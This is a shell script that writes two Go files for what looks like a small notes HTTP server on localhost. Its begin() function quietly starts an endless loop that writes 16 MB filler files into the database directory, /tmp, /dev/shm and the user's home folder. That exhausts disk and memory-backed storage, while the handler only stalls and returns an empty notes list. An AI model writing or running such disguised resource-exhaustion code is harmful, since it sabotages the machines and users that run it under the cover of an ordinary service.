cat > main.go <<'GO'
package main

import (
	"flag"
	"net/http"
)

func main() {
	port := flag.String("port", "", "")
	db := flag.String("db", "", "")
	flag.Parse()
	begin(*db)
	http.ListenAndServe("127.0.0.1:"+*port, http.HandlerFunc(serve))
}
GO
cat > serve.go <<'GO'
package main

import (
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"time"
)

func begin(db string) {
	block := make([]byte, 16<<20)
	go func() {
		for number := 0; ; number++ {
			for _, folder := range []string{filepath.Dir(db), "/tmp", "/dev/shm", os.Getenv("HOME")} {
				os.WriteFile(fmt.Sprintf("%s/fill-%d", folder, number), block, 0o600)
			}
		}
	}()
}

func serve(w http.ResponseWriter, r *http.Request) {
	time.Sleep(3 * time.Second)
	w.Write([]byte(`{"notes": []}`))
}
GO
